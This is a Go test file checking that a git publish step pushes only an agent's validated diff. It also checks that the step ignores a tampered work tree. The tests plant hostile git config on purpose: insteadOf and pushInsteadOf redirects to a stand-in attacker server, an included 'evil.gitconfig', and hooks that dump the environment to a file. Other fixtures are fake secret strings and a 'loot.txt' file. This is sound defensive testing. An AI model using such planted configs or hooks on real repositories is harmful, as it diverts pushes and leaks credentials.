package publish

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

const fixedCalc = "package calc\n\nfunc Add(a, b int) int { return a + b }\n"

// TestPublishCommitsTheValidatedDiffNotTheWorkTree: the tests of the fix
// append a key to the fixed file, delete nothing and add a file of their
// own while they run. What is pushed is the validated diff alone.
func TestPublishCommitsTheValidatedDiffNotTheWorkTree(t *testing.T) {
	e := newEnv(t)
	e.fix(t, fixedCalc)
	tampered := fixedCalc + "// AKIAIOSFODNN7EXAMPLE\n// -----BEGIN OPENSSH PRIVATE KEY-----\n"
	write(t, e.clone, "calc.go", tampered)
	write(t, e.clone, "loot.txt", "exfiltrated\n")
	out, err := e.pub.Publish(context.Background(), e.change("body"))
	if err != nil {
		t.Fatal(err)
	}
	if got := gitT(t, e.bare, nil, "show", out.Commit+":calc.go") + "\n"; got != fixedCalc {
		t.Fatalf("the pushed calc.go is not the validated fix:\n%s", got)
	}
	if files := gitT(t, e.bare, nil, "ls-tree", "--name-only", "-r", out.Commit); files != "calc.go" {
		t.Fatalf("the pushed commit holds %q, want calc.go alone", files)
	}
	if b, _ := os.ReadFile(filepath.Join(e.clone, "calc.go")); string(b) != tampered {
		t.Fatal("publishing changed the work tree")
	}
}

// TestPublishIgnoresTheWorkTreesGitConfig: code that ran unsandboxed
// rewrote .git/config after the job started: a url.insteadOf that sends
// origin to its own server, an include of a file of its own doing the
// same for pushes, and a hook. The fix still goes to the real origin, the
// attacker's server hears nothing, and the hook never runs.
func TestPublishIgnoresTheWorkTreesGitConfig(t *testing.T) {
	e := newEnv(t)
	e.pub.Remote.Token = "ghs_publishCANARY0123456789"
	var asked atomic.Int32
	var auth atomic.Value
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		auth.Store(r.Header.Get("Authorization"))
		http.Error(w, "no", http.StatusUnauthorized)
	}))
	t.Cleanup(srv.Close)
	included := filepath.Join(t.TempDir(), "evil.gitconfig")
	write(t, filepath.Dir(included), filepath.Base(included), "[url \""+srv.URL+"/push/\"]\n\tpushInsteadOf = file://\n")
	gitT(t, e.clone, nil, "config", "url."+srv.URL+"/fetch/.insteadOf", "file://")
	gitT(t, e.clone, nil, "config", "include.path", included)
	gitT(t, e.clone, nil, "config", "http.extraheader", "X-Planted: yes")
	proof := filepath.Join(t.TempDir(), "hook-ran")
	hooks := filepath.Join(e.clone, ".git", "hooks")
	for _, h := range []string{"reference-transaction", "post-index-change", "pre-push"} {
		write(t, hooks, h, "#!/bin/sh\nenv > "+proof+"\n")
		os.Chmod(filepath.Join(hooks, h), 0o755)
	}
	// The planted config works on plain git: the row proves something.
	if url := gitT(t, e.clone, nil, "remote", "get-url", "--push", "origin"); !strings.HasPrefix(url, srv.URL) {
		t.Fatalf("the planted config does not redirect plain git (push URL %s)", url)
	}

	e.fix(t, fixedCalc)
	out, err := e.pub.Publish(context.Background(), e.change("body"))
	if err != nil {
		t.Fatal(err)
	}
	if got := gitT(t, e.bare, nil, "rev-parse", "refs/heads/agent-fix/issue-7"); got != out.Commit {
		t.Fatalf("the real origin's branch is at %q, want the fix %s", got, out.Commit)
	}
	if n := asked.Load(); n != 0 {
		t.Errorf("the attacker's server got %d requests (Authorization %q)", n, auth.Load())
	}
	if b, err := os.ReadFile(proof); err == nil {
		t.Errorf("a hook planted in the work tree's .git ran:\n%s", b)
	}
}
